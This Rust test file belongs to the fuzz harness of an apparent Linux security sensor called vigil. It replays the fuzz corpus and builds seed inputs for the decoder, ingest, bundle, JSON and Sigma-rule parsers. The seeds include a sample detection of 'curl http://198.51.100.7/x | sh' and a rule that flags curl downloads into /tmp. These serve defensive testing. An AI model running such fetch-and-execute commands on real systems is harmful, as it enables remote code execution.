//! Replays every committed fuzz input (`corpus/<target>/`, the seeds and
//! what fuzzing runs kept, and `regressions/<target>/`, the crashes found)
//! through the harness: a stable-toolchain test, run by `cargo xtask test`.
//! `cargo test -p vigil-fuzz -- --ignored write_seeds` writes the seeds.

use std::path::{Path, PathBuf};

use prost::Message as _;

fn root() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).to_path_buf()
}

fn inputs(dir: &Path) -> Vec<PathBuf> {
    let mut v: Vec<PathBuf> = std::fs::read_dir(dir)
        .into_iter()
        .flatten()
        .flatten()
        .map(|e| e.path())
        .filter(|p| p.is_file())
        .collect();
    v.sort();
    v
}

#[test]
fn every_committed_input_runs_clean() {
    for (name, run) in vigil_fuzz::TARGETS {
        let corpus = inputs(&root().join("corpus").join(name));
        assert!(
            !corpus.is_empty(),
            "fuzz/corpus/{name} holds no input: the target would not be exercised"
        );
        let regressions = inputs(&root().join("regressions").join(name));
        for p in corpus.iter().chain(&regressions) {
            let data = std::fs::read(p).unwrap();
            // A panic names the input that caused it.
            eprintln!("{name}: {}", p.display());
            run(&data);
        }
        eprintln!(
            "{name}: {} corpus inputs, {} regressions",
            corpus.len(),
            regressions.len()
        );
    }
}

/// The decoder's seeds reach past its header checks: one record of each
/// kind, its size field right, its tail lengths zero, then one with a tail.
#[test]
fn decoder_seeds_decode() {
    let seeds = decoder_seeds();
    let ok = seeds
        .iter()
        .filter(|s| vigil_agent::decode::decode(s).is_ok())
        .count();
    assert!(
        ok * 2 >= seeds.len(),
        "{ok} of {} seeds decode",
        seeds.len()
    );
}

/// The other seeds reach past the first parse too: the bundle verifies,
/// the lines convert, the rule loads, the configuration parses.
#[test]
fn seeds_reach_past_the_first_parse() {
    let b = bundle_seeds();
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("seed.tar.zst");
    std::fs::write(&path, &b[1][1..]).unwrap();
    vigil_bundle::verify_bundle(&path).expect("the bundle seed verifies");
    let j = json_seeds();
    let line = |b: &[u8]| String::from_utf8(b.to_vec()).unwrap();
    vigil_proto::Event::from_agent_json(&line(&j[0])).expect("the event line converts");
    vigil_proto::Detection::from_agent_json(&line(&j[1])).expect("the detection line converts");
    let r = rules_seeds();
    assert!(vigil_agent::detect::sigma::check_rule_text(&line(&r[0])).unwrap());
    vigil_agent::config::AgentConfig::parse(&line(&r[1])).expect("the configuration parses");
    for s in ingest_seeds() {
        assert!(
            vigil_proto::DetectionBatch::decode(&s[1..]).is_ok()
                || vigil_proto::EventBatch::decode(&s[1..]).is_ok()
        );
    }
}

fn record<T>(kind: u32, tail: &[u8]) -> Vec<u8> {
    let fixed = std::mem::size_of::<T>();
    let mut v = vec![0u8; fixed];
    v[0..4].copy_from_slice(&kind.to_ne_bytes());
    v[4..8].copy_from_slice(&((fixed + tail.len()) as u32).to_ne_bytes());
    v.extend_from_slice(tail);
    v
}

fn decoder_seeds() -> Vec<Vec<u8>> {
    use vigil_sensor_common as raw;
    vec![
        record::<raw::ExecEvent>(1, &[]),
        record::<raw::ForkEvent>(2, &[]),
        record::<raw::ExitEvent>(3, &[]),
        record::<raw::ConnectEvent>(4, &[]),
        record::<raw::FileOpenEvent>(5, &[]),
        record::<raw::ChmodEvent>(6, &[]),
        record::<raw::RenameEvent>(7, &[]),
        record::<raw::ListenEvent>(8, &[]),
        record::<raw::ExecDeniedEvent>(9, &[]),
        record::<raw::ChmodEvent>(10, &[]),
        record::<raw::CommEvent>(11, &[]),
        record::<raw::ProcessAccessEvent>(12, &[]),
        record::<raw::ChmodEvent>(13, &[]),
        record::<raw::BpfLoadEvent>(14, &[]),
        record::<raw::ExecMemEvent>(15, &[]),
        record::<raw::ChmodEvent>(16, &[]),
        record::<raw::ExecEvent>(1, b"/usr/bin/curl\0curl\0-o\0/tmp/x\0\0\0\0\0"),
    ]
}

fn anc(pid: u32, exe: &str) -> vigil_proto::Ancestor {
    vigil_proto::Ancestor {
        pid,
        exe: exe.into(),
        argv: vec![exe.into()],
    }
}

fn ingest_seeds() -> Vec<Vec<u8>> {
    let t = 1_800_000_000_000_000_000i64;
    let det = |pid: u32, exe: &str, rule: &str, ancestry: Vec<vigil_proto::Ancestor>| {
        vigil_proto::Detection {
            time_unix_nanos: t,
            rule: rule.into(),
            severity: 3,
            mitre: vec!["T1059.004".into()],
            summary: format!("{rule} on {exe}"),
            pid,
            exe: exe.into(),
            argv: vec![
                exe.into(),
                "-c".into(),
                "curl http://198.51.100.7/x | sh".into(),
            ],
            workload_key: "container:abc".into(),
            ancestry,
            json: "{}".into(),
            ..Default::default()
        }
    };
    let chain = vec![anc(100, "/usr/bin/node"), anc(1, "/sbin/init")];
    let dets = vigil_proto::DetectionBatch {
        batch_id: "b1".into(),
        detections: vec![
            det(200, "/bin/sh", "web_server_shell", chain.clone()),
            det(
                201,
                "/usr/bin/curl",
                "pipe_to_shell",
                [vec![anc(200, "/bin/sh")], chain].concat(),
            ),
        ],
    };
    let ev = |kind: &str, pid: u32, ppid: u32| vigil_proto::Event {
        time_unix_nanos: t,
        kind: kind.into(),
        pid,
        ppid,
        exe: "/bin/sh".into(),
        workload_key: "container:abc".into(),
        json: format!(r#"{{"type":"{kind}"}}"#),
        ..Default::default()
    };
    let events = vigil_proto::EventBatch {
        batch_id: "e1".into(),
        events: vec![
            ev("exec", 200, 100),
            ev("fork", 201, 200),
            ev("exit", 201, 200),
        ],
    };
    vec![
        [vec![0u8], dets.encode_to_vec()].concat(),
        [vec![1u8], events.encode_to_vec()].concat(),
    ]
}

fn bundle_seeds() -> Vec<Vec<u8>> {
    use vigil_bundle::{Acquisition, AgentIdentity, BundleBuilder, BundleConfig, Manifest, Times};
    let dir = tempfile::tempdir().unwrap();
    let cfg = BundleConfig {
        out_dir: dir.path().join("out"),
        state_dir: dir.path().join("state"),
        agent_id: "agent-seed".into(),
        zstd_level: 3,
        keep_dir: false,
    };
    let mut b = BundleBuilder::create(&dir.path().join("work")).unwrap();
    b.add_json(
        "context.json",
        "context",
        &serde_json::json!({"pid": 42, "exe": "/tmp/x"}),
    )
    .unwrap();
    let manifest = Manifest {
        format: String::new(),
        seq: 0,
        prev_bundle_sha256: None,
        agent: AgentIdentity::current("agent-seed"),
        times: Times::default(),
        acquisition: Acquisition {
            method: "seed".into(),
            tool: "vigil-fuzz".into(),
            tool_version: env!("CARGO_PKG_VERSION").into(),
            details: serde_json::Value::Null,
        },
        subject: serde_json::json!({"pid": 42}),
        detection: serde_json::json!({"rule": "seed"}),
        artifacts: Vec::new(),
    };
    let sealed = b.seal(&cfg, manifest).unwrap();
    let archive = std::fs::read(&sealed.archive).unwrap();
    let tar = zstd::decode_all(&archive[..]).unwrap();
    vec![[vec![0u8], tar].concat(), [vec![1u8], archive].concat()]
}

fn json_seeds() -> Vec<Vec<u8>> {
    vec![
        br#"{"type":"exec","time":"2026-12-03T08:00:00.000000001Z","pid":42,"ppid":1,"uid":0,"exe":"/usr/bin/curl","argv":["curl","-o","/tmp/x","http://198.51.100.7/x"],"workload":{"kind":"host"}}"#.to_vec(),
        br#"{"type":"detection","time":"2026-12-03T08:00:00Z","rule":"web_server_shell","severity":"high","mitre":["T1059.004"],"summary":"node started sh","process":{"pid":42,"exe":"/bin/sh","argv":["sh","-c","id"]},"ancestry":[{"pid":1,"exe":"/usr/bin/node","argv":["node"]}],"evidence":{"bundle_id":"ab"}}"#.to_vec(),
    ]
}

fn rules_seeds() -> Vec<Vec<u8>> {
    vec![
        br#"title: Downloader writes into /tmp
id: 9d2c1b2e-0000-4000-8000-000000000001
logsource:
    product: linux
    category: process_creation
detection:
    sel:
        Image|endswith: '/curl'
        CommandLine|contains|all: [' -o ', '/tmp/']
    filter:
        ParentImage|re: '^/usr/(s)?bin/'
    condition: sel and not filter
level: high
tags:
    - attack.t1105
"#
        .to_vec(),
        b"[sensor]\npoll_interval_ms = 10\ndisable = [\"chmod\"]\n[capture]\ndir = \"/var/lib/vigil/evidence\"\n".to_vec(),
    ]
}

#[test]
#[ignore = "writes the seed inputs into fuzz/corpus (run once, commit the files)"]
fn write_seeds() {
    let sets: [(&str, Vec<Vec<u8>>); 5] = [
        ("decode_record", decoder_seeds()),
        ("bundle_reader", bundle_seeds()),
        ("ingest", ingest_seeds()),
        ("agent_json", json_seeds()),
        ("rules", rules_seeds()),
    ];
    for (name, seeds) in sets {
        let dir = root().join("corpus").join(name);
        std::fs::create_dir_all(&dir).unwrap();
        for (i, s) in seeds.iter().enumerate() {
            std::fs::write(dir.join(format!("seed-{i:02}")), s).unwrap();
        }
    }
}
